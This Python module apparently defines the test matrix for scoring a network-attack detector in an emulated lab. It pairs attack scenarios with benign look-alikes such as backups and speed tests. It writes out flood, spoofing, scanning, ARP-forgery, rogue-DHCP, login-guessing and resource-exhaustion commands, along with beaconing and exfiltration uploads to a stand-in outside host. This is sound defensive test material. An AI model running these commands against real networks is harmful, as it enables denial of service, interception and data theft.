"""The scoreboard's cells: kinds of attack and of honest work, each at each of its rates. Pure.

Letters are those of `lab.kinds`: X acts, T is who it is aimed at or has to do with, O is the third.
"""

import random
from collections.abc import Collection, Sequence
from dataclasses import replace

from lab.kinds import ATTACKER, BUSY, INNOCENT, TOUCHED, VICTIM, Family, Kind, Trial, drawn
from lab.programs import program
from lab.scenario import Step

_PACES = ("-i u20000", "-i u10000", "-i u5000", "-i u2500", "-i u500", "--flood")
"""50, 100, 200, 400 and 2,000 packets a second, and as many as it can; a slow guest sends fewer, 600 of the 2,000."""
_SOME_PACES = ("-i u10000", "-i u2500", "-i u500", "--flood")
_FLOOD = (ATTACKER, VICTIM, INNOCENT)
_ALONE = (ATTACKER, INNOCENT, INNOCENT)
_TOUCHING = (ATTACKER, TOUCHED, INNOCENT)
_GRABBING = (frozenset({"overloaded"}), INNOCENT, INNOCENT)
_ABUSED = (frozenset({"reflector", "victim"}), INNOCENT, INNOCENT)
_TOLD = (frozenset({"cleared"}), INNOCENT, INNOCENT)
"""A case is opened and explained."""
_LONG_S = 34.0
_ACTIVE_S = 8.0
_LONGER_S = 30.0
_STEADY_S = 36.0
_ELSEWHERE = "198.51.100.3"
"""A host outside that, unlike ``ext``'s own address, asks nothing of the guests."""


def _attack(command: str, on: str = "X", target: str | None = "T", at_s: float = 0.5) -> Step:
    return Step(at_s, on, command, attack=True, target=target)


def _elsewhere(port: str, seconds: float) -> Step:
    """Somebody listens there, as long as the address is there."""
    here = f"{_ELSEWHERE}/32 dev lo"
    listening = program("sink", port, seconds=seconds)
    return Step(0.1, "ext", f"ip address replace {here}; {listening}; ip address delete {here}")


def _flood(name: str, options: str, paces: tuple[str, ...] = _PACES) -> Kind:
    command = f"timeout {_ACTIVE_S:g} hping3 -q $choice {options} $ip_T"
    return Kind(name, Family.ATTACKER, (_attack(command),), _FLOOD, paces)


def _only(name: str, command: str, choices: tuple[str, ...], seconds: float | None = None) -> Kind:
    """An attack on nobody of this host in particular."""
    return Kind(name, Family.ATTACKER, (_attack(command, target=None),), _ALONE, choices, seconds=seconds)


ATTACKS: tuple[Kind, ...] = (
    _flood("syn-flood", "-S -p 80"),
    _flood("udp-flood", "--udp -p 9 -d 64"),
    _flood("icmp-flood", "-1"),
    _flood("fragment-flood", "-x --udp -p 9 -d 64", _SOME_PACES),
    _flood("ack-flood", "-A -p 80", _SOME_PACES),
    _flood("rst-flood", "-R -p 80", _SOME_PACES),
    Kind(
        "dns-reflection",  # questions in T's name
        Family.ATTACKER,
        (_attack(f"timeout {_ACTIVE_S:g} hping3 -q $choice --udp -p 53 -d 32 -a $ip_T $ip_O"),),
        (ATTACKER, TOUCHED, TOUCHED),
        _SOME_PACES,
    ),
    Kind(
        "amplification",  # X is abused by many small questions that it answers at length
        Family.VICTIM,
        (
            Step(0.1, "X", "hv-udp serve --port 5353 --size 1200 --seconds 12"),
            _attack(
                f"timeout {_ACTIVE_S:g} hping3 -q $choice --udp -p 5353 -d 8 -k -s 40000 $ip_X",
                on="ext",
                target="X",
                at_s=1.5,
            ),
        ),
        _ABUSED,
        ("-i u10000", "-i u2500", "-i u500"),
    ),
    Kind(
        "slow-requests",  # begun so many times a second and never ended: the server hangs up after 10 s
        Family.ATTACKER,
        (_attack(program("slow-requests", "$ip_T", "$choice", "4", seconds=_LONGER_S)),),
        _FLOOD,
        ("150", "250"),
        seconds=_LONG_S,
    ),
    Kind(
        "few-slow-requests",  # the server has descriptors for five times as many: nobody is hurt
        Family.VICTIM,
        (Step(0.5, "X", program("slow-requests", "$ip_T", "$choice", "1", seconds=_LONGER_S)),),
        (INNOCENT, INNOCENT, INNOCENT),
        ("20",),
        seconds=_LONG_S,
    ),
    Kind(
        "http-flood",  # requests in order, more than T has CPU for
        Family.VICTIM,
        (_attack(f"hv-load --attack --rate $choice --seconds {_ACTIVE_S:g} --seed $seed http://$ip_T/", on="ext"),),
        (INNOCENT, VICTIM, INNOCENT),  # from outside: no guest asks for as much under emulation
        ("800", "1600"),
    ),
    Kind(
        "vertical-scan",
        Family.ATTACKER,
        (_attack(f"timeout {_ACTIVE_S:g} nmap -n -Pn -sS $choice -p 1-2000 $ip_T"),),
        _TOUCHING,
        ("-T4", "--max-rate 100", "--max-rate 20"),
    ),
    # No cell tries hosts of another's: what was tried before is no new host, so a slow scan of it would find none.
    _only(
        "horizontal-scan",
        f"timeout {_ACTIVE_S:g} nmap -n -Pn -sS -p 445 $choice",
        ("-T4 198.51.100.192-223", "--max-rate 50 198.51.100.224-254", "--max-rate 10 198.51.100.96-127"),
    ),
    _only(
        "slow-scan",
        f"timeout {_LONGER_S:g} nmap -n -Pn -sS --max-retries 0 -p 22 --scan-delay $choice",
        ("1s 198.51.100.16-47", "2500ms 198.51.100.48-63"),
        seconds=_LONG_S,
    ),
    _only(
        "host-sweep",
        f"timeout {_ACTIVE_S:g} nmap -n -sn $choice",
        ("-T4 10.60.0.0/25", "--max-rate 20 10.60.0.128/25"),
    ),
    _only(
        "spreading",
        program("spreading", "$choice", seconds=_ACTIVE_S),
        ("198.51.100.64/27 445 5", "198.51.100.128/26 445 25"),
    ),
    Kind(
        "arp-forgery",
        Family.ATTACKER,
        (_attack("timeout 9 arpspoof -i eth0 -t $ip_T $choice"),),
        _TOUCHING,
        ("$gateway", "$ip_O"),
    ),
    Kind(
        "ip-forgery",
        Family.ATTACKER,
        (_attack(f"timeout {_ACTIVE_S:g} hping3 -q $choice --rand-source -S -p 80 $ip_T"),),
        _TOUCHING,
        _SOME_PACES,
    ),
    Kind(
        "mac-forgery",
        Family.ATTACKER,
        (_attack(program("forged-mac", "$mac_T", "$ip_X", "$ip_T", "$choice", seconds=_ACTIVE_S)),),
        _TOUCHING,
        ("10", "100"),
    ),
    _only("rogue-dhcp", program("offers", "$choice", seconds=_ACTIVE_S), ("1", "5")),
    _only("rogue-router", program("routes", "$mac_X", "$choice", seconds=_ACTIVE_S), ("1", "5")),
    Kind(
        "guessing",
        Family.ATTACKER,
        (
            Step(0.1, "T", f"timeout {_LONGER_S:g} hv-login serve"),
            _attack(f"hv-login guess $ip_T --seconds {_LONGER_S - 2:g} --at-once $choice --seed $seed", at_s=1.5),
        ),
        _FLOOD,
        ("1", "4", "16"),
        seconds=_LONG_S,
    ),
    Kind(
        "beaconing",  # by counts no other than a program that asks for news: told, and blamed for nothing (0017)
        Family.VICTIM,
        (
            _elsewhere("4443", _STEADY_S + _LONGER_S),
            # What begins as soon as it is watched may have gone on before.
            Step(_STEADY_S, "X", program("beacon", _ELSEWHERE, "4443", "$choice", seconds=_LONGER_S - 2)),
        ),
        _TOLD,
        ("0.5", "2"),
        seconds=_STEADY_S + _LONGER_S,
    ),
    Kind(
        "exfiltration",  # nor than a backup: held for a while, and told
        Family.VICTIM,
        (
            _elsewhere("4444", _LONGER_S),
            Step(1.5, "X", program("upload", _ELSEWHERE, "4444", "$choice", seconds=_LONGER_S - 2)),
        ),
        _TOLD,
        ("500000", "5000000"),
        seconds=_LONG_S,
    ),
    Kind(
        "slow-exfiltration",  # a few times what it says anyhow: nothing can be seen of it
        Family.VICTIM,
        (
            _elsewhere("4444", _LONGER_S),
            Step(1.5, "X", program("upload", _ELSEWHERE, "4444", "$choice", seconds=_LONGER_S - 2)),
        ),
        (INNOCENT, INNOCENT, INNOCENT),
        ("50000",),
        seconds=_LONG_S,
    ),
    Kind(
        "cpu-grab",
        Family.VICTIM,
        (Step(0.5, "X", "stress-ng --cpu $choice --timeout 14"),),
        _GRABBING,
        ("1", "4"),
        seconds=18.0,
    ),
    Kind(
        "memory-grab",
        Family.VICTIM,
        (Step(0.5, "X", "timeout 15 stress-ng --vm 1 --vm-bytes $choice --vm-keep --timeout 12"),),
        (BUSY, INNOCENT, INNOCENT),
        ("30%", "60%"),
        seconds=18.0,
    ),
    Kind(
        "fork-grab",
        Family.VICTIM,
        (Step(0.5, "X", "timeout 15 stress-ng --fork $choice --timeout 12"),),
        (BUSY, INNOCENT, INNOCENT),
        ("2", "8"),
        seconds=18.0,
    ),
)
"""What somebody does that is not theirs to do, and what is done to somebody."""


def _honest(name: str, steps: Sequence[Step], choices: tuple[str, ...], *, seconds: float | None = None) -> Kind:
    return Kind(
        name,
        Family.BENIGN,
        tuple(steps),
        (BUSY, BUSY, INNOCENT),
        choices,
        measured=steps[-1].on != "T",
        seconds=seconds,
    )


_PAGES = "hv-load --rate $choice --seconds {seconds} --seed $seed http://$ip_T/"

LOOK_ALIKES: tuple[Kind, ...] = (
    _honest(
        "speed-test",
        (
            Step(0.1, "T", "timeout 14 iperf3 -s -1 -p 5201"),
            Step(1.5, "X", "timeout 11 iperf3 -c $ip_T -p 5201 -t 8 $choice"),
        ),
        ("-P 1", "-P 4", "-u -b 10M"),
    ),
    _honest(
        "backup",
        (
            Step(0.1, "T", "timeout 14 iperf3 -s -1 -p 5201"),
            Step(1.5, "X", "timeout 11 iperf3 -c $ip_T -p 5201 -t 8 -b $choice"),
        ),
        ("5M", "20M"),
    ),
    _honest(
        "flash-crowd",
        (
            Step(0.5, "X", "hv-load --rate 24 --seconds 10 --seed $seed http://$ip_T/"),
            Step(1.0, "ext", _PAGES.format(seconds=10)),
        ),
        ("32", "64"),
    ),
    _honest(
        "migration",
        (
            Step(0.1, "T", "timeout 14 iperf3 -s -1 -p 5201"),
            Step(1.5, "X", "timeout 11 iperf3 -c $ip_T -p 5201 -n $choice"),
        ),
        ("16M", "48M"),
    ),
    _honest(
        "boot-storm",
        (
            Step(0.5, "X", "for n in 1 2 3 4 5 6; do ip neigh flush dev eth0; ping -q -c 1 -W 1 $gateway; done"),
            Step(1.0, "X", "hv-udp send $ip_T --port 53 --rate $choice --seconds 6"),
        ),
        ("10", "40"),
    ),
    _honest(
        "monitoring-sweep",
        (
            Step(
                0.5,
                "X",
                "for round in 1 2 3; do for ip in $gateway $ip_T $ip_O $ip_ext; do "
                "ping -q -c $choice -i 0.2 -W 1 $ip; done; done",
            ),
        ),
        ("2", "5"),
    ),
    _honest(
        "package-update",
        (
            Step(0.1, "T", "timeout 14 python3 -I -m http.server 8000 -d /usr/lib/python3"),
            Step(
                2.0,
                "X",
                "for n in $(seq $choice); do timeout 5 curl -s -o /dev/null --max-time 4 http://$ip_T:8000/; done",
            ),
        ),
        ("5", "20"),
    ),
    _honest(
        "video-stream",
        (
            Step(0.1, "T", "hv-udp serve --port 5004 --reports 4 --size 60 --seconds 13"),
            Step(1.5, "X", "hv-udp send $ip_T --port 5004 --rate $choice --size 400 --sockets 1 --seconds 9"),
        ),
        ("100", "200"),
    ),
    replace(
        _honest("batch-job", (Step(0.5, "X", "stress-ng --cpu $choice --timeout 8"),), ("1", "2")),
        measured=False,
    ),
    replace(
        _honest("failover", (Step(1.0, "X", _PAGES.format(seconds=10)),), ("8", "24")),
        restarts=True,
    ),
)
"""Ten kinds of honest work that look like an attack."""

CELLS = (*ATTACKS, *LOOK_ALIKES)
UNCOUNTED = frozenset({"rogue-router"})
"""The lab counts frames of IPv4 and ARP only: that these were sent shows in the product's verdict alone."""


def cells(kinds: Collection[str] = (), repeat: int = 1, seed: int = 0) -> list[Trial]:
    """Each cell so many times, in random order each time; who is who is drawn, too."""
    dice = random.Random(seed)
    wanted = [
        replace(kind, choices=(choice,)) for kind in CELLS if not kinds or kind.name in kinds for choice in kind.choices
    ]
    trials: list[Trial] = []
    for _ in range(repeat):
        for kind in dice.sample(wanted, len(wanted)):
            trials.append(drawn(len(trials) + 1, kind, dice))
    return trials
